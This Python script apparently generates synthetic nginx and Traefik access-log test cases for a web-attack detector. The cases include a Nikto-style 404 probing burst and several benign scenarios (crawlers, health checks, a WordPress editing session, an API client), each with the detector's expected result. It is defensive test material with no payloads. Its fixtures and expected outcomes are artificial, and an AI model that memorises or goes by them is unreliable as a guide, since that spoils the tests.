        log.traefik("203.0.113.230", 10 + 0.5 * i, "GET", f"/nikto-test-{i:02d}.html", 404, ua)
    for i, p in enumerate(["/", "/pricing", "/about", "/contact"]):
        log.traefik("198.51.100.231", 5 + 6 * i, "GET", p, 200, FIREFOX, SITE + "/")


# ---------------------------------------------------------------- benign
@case("benign-static-heavy", "nginx", """
Must raise nothing. Three visitors load pages of a static-heavy site with cold caches:
one very heavy page (250 assets in 2 s), others 45-70 assets, each with a favicon.ico,
apple-touch-icon.png and apple-touch-icon-precomposed.png 404 and a robots.txt-style
non-static 404, then browse 3-4 more pages over a minute with 15 cached assets each (304) and
XHR calls. The heavy page holds about 250 events in palisade/http-flood (capacity 300).
""")
def benign_static(log):
    rng = random.Random(42)
    visitors = [("198.51.100.1", CHROME, 250), ("203.0.113.3", SAFARI, 70), ("192.0.2.5", FIREFOX, 45)]
    pages = ["/", "/products/", "/blog/spring-sale", "/about", "/contact"]
    for n, (ip, ua, assets) in enumerate(visitors):
        t0 = 5 + 17 * n
        page_load(log, ip, t0, ua, "/", assets, rng)
        for p in ["/favicon.ico", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png"]:
            log.http(ip, t0 + 2.5, "GET", p, 404, ua)
        log.http(ip, t0 + 2.6, "GET", "/.well-known/change-password", 404, ua)
        for k, p in enumerate(pages[1:1 + 3 + n % 2]):
            t = t0 + 15 + 14 * k
            page_load(log, ip, t, ua, p, 15, rng, cold=False, ref=SITE + pages[k])
            for x in range(3):
                log.http(ip, t + 1 + x * 0.3, "GET", f"/api/v1/widgets/{k}-{x}", 200, ua, SITE + p)


@case("benign-crawlers", "nginx", """
Must raise nothing. Googlebot (66.249.66.1) crawls 150 pages at one every 0.75 s, fetching
robots.txt and sitemap.xml and hitting 6 stale URLs (404) and a few 301s; bingbot
(157.55.39.10) crawls 60 pages at one every 3 s with 3 404s. Distinct non-static pages
at 1.33/s never fill palisade/http-crawl-non-statics (leaks 2/s); 6 distinct 404s over
2 min stay far under palisade/http-probing's 11.
""")
def benign_crawlers(log):
    rng = random.Random(3)
    log.http("66.249.66.1", 0, "GET", "/robots.txt", 200, GOOGLEBOT)
    log.http("66.249.66.1", 1, "GET", "/sitemap.xml", 200, GOOGLEBOT)
    stale = {20, 45, 70, 95, 120, 140}
    for i in range(150):
        t = 3 + 0.75 * i
        if i in stale:
            log.http("66.249.66.1", t, "GET", f"/2019/archive/post-{i}", 404, GOOGLEBOT)
        elif i % 25 == 7:
            log.http("66.249.66.1", t, "GET", f"/old-category/item-{i}", 301, GOOGLEBOT)
        else:
            log.http("66.249.66.1", t, "GET", f"/articles/{rng.randint(1000, 9999)}-post-{i}", 200, GOOGLEBOT)
    log.http("157.55.39.10", 2, "GET", "/robots.txt", 200, BINGBOT)
    for i in range(60):
        t = 5 + 3 * i
        st = 404 if i in (10, 30, 50) else 200
        log.http("157.55.39.10", t, "GET", f"/articles/{i}-post" if st == 200 else f"/deleted/{i}", st, BINGBOT)


@case("benign-healthcheck", "nginx", """
Must raise nothing. A load balancer / uptime monitor (192.0.2.200, Go-http-client)
requests GET /healthz every 10 s for 30 minutes, a second probe (198.51.100.201,
kube-probe) hits /readyz every 10 s, and Pingdom-like HEAD / every 60 s from 203.0.113.202.
""")
def benign_health(log):
    for i in range(180):
        log.http("192.0.2.200", 10 * i, "GET", "/healthz", 200, "Go-http-client/1.1", size=2)
        log.http("198.51.100.201", 10 * i + 3, "GET", "/readyz", 200, "kube-probe/1.30", size=2)
    for i in range(30):
        log.http("203.0.113.202", 60 * i + 7, "HEAD", "/", 200, "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", size=0)


@case("benign-wordpress-admin", "nginx", """
Must raise nothing. A WordPress editor (203.0.113.160) mistypes the password once
(POST wp-login.php 200), logs in (302), edits a post for 12 minutes: Heartbeat POSTs to
admin-ajax.php every 15 s, block-editor REST calls (/wp-json/wp/v2/...), autosaves,
media uploads, list screens; the site itself (192.0.2.10) calls wp-cron.php every minute.
""")
def benign_wp(log):
    ip = "203.0.113.160"
    ua = CHROME
    log.http(ip, 0, "GET", "/wp-login.php", 200, ua)
    log.http(ip, 8, "POST", "/wp-login.php", 200, ua, SITE + "/wp-login.php")
    log.http(ip, 15, "POST", "/wp-login.php", 302, ua, SITE + "/wp-login.php")
    log.http(ip, 16, "GET", "/wp-admin/", 200, ua, SITE + "/wp-login.php")
    log.http(ip, 16.5, "GET", "/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common&ver=6.6", 200, ua, SITE + "/wp-admin/")
    log.http(ip, 16.6, "GET", "/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.6", 200, ua, SITE + "/wp-admin/")
    log.http(ip, 30, "GET", "/wp-admin/edit.php", 200, ua, SITE + "/wp-admin/")
    log.http(ip, 40, "GET", "/wp-admin/post.php?post=123&action=edit", 200, ua, SITE + "/wp-admin/edit.php")
    for j, p in enumerate(["/wp-json/wp/v2/types?context=view&_locale=user", "/wp-json/wp/v2/users/me?_locale=user",
              "/wp-json/wp/v2/users?context=view&who=authors&per_page=50&_locale=user",
              "/wp-json/wp/v2/taxonomies?context=view&_locale=user", "/wp-json/wp/v2/categories?per_page=100&_locale=user",
              "/wp-json/wp/v2/posts/123?context=edit&_locale=user", "/wp-json/wp/v2/media?per_page=20&_locale=user"]):
        log.http(ip, 41 + 0.1 * j, "GET", p, 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
    for i in range(48):
        t = 45 + 15 * i
        log.http(ip, t, "POST", "/wp-admin/admin-ajax.php", 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
        if i % 4 == 3:
            log.http(ip, t + 2, "POST", "/wp-json/wp/v2/posts/123/autosaves?_locale=user", 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
        if i % 12 == 5:
            log.http(ip, t + 5, "POST", "/wp-admin/async-upload.php", 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
            log.http(ip, t + 6, "GET", f"/wp-content/uploads/2026/11/photo-{i}-300x200.jpg", 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
    log.http(ip, 780, "POST", "/wp-json/wp/v2/posts/123?_locale=user", 200, ua, SITE + "/wp-admin/post.php?post=123&action=edit")
    log.http(ip, 790, "GET", "/wp-admin/upload.php", 200, ua, SITE + "/wp-admin/")
    log.http(ip, 800, "GET", "/wp-admin/edit-comments.php", 200, ua, SITE + "/wp-admin/")
    log.http(ip, 805, "POST", "/wp-admin/admin-ajax.php", 400, ua, SITE + "/wp-admin/edit-comments.php")
    for i in range(14):
        log.http("192.0.2.10", 30 + 60 * i, "POST", f"/wp-cron.php?doing_wp_cron=1763632{800 + 60 * i}.1234", 200, "WordPress/6.6; https://www.example.org")


@case("benign-api-client", "nginx", """
Must raise nothing. A partner integration (198.51.100.77, okhttp) makes 4 requests a
second for 100 s: polls /api/v1/orders with a changing ?since=, posts events, updates
items, fetches item details (1.5 distinct paths/s, under the crawl scenario's 2/s drain),
meets 5 deleted items (404), and once sees a 401 on a GET before refreshing its token.
4 req/s is under palisade/http-flood's 10/s drain.
""")
def benign_api(log):
    ip, ua = "198.51.100.77", "okhttp/4.12.0"
    n_item = 0
    for k in range(400):
        t = 10 + k * 0.25
        kind = k % 8
        if kind in (0, 4):
            log.http(ip, t, "GET", f"/api/v1/orders?since=2026-11-20T10:{int(t) // 60:02d}:{int(t) % 60:02d}Z&page=1", 200, ua)
        elif kind in (1, 5):
            log.http(ip, t, "POST", "/api/v1/events", 201, ua)
        elif kind == 2:
            log.http(ip, t, "PUT", f"/api/v1/items/{5000 + k}", 200, ua)
        else:
            n_item += 1
            st = 404 if n_item % 40 == 0 else 200
            log.http(ip, t, "GET", f"/api/v1/items/{7000 + n_item}", st, ua)
    log.http(ip, 60.1, "GET", "/api/v1/status", 401, ua)
    log.http(ip, 60.2, "POST", "/oauth/token", 200, ua)


def main():
    only = set(sys.argv[2:])
    for name, typ, desc, scen, fn in CASES:
        if only and name not in only:
            continue
        log = Log()
        fn(log)
        write_case(name, typ, desc, scen, log)
        print(f"{name}\t{typ}\t{len(log.rows)} lines")


main()
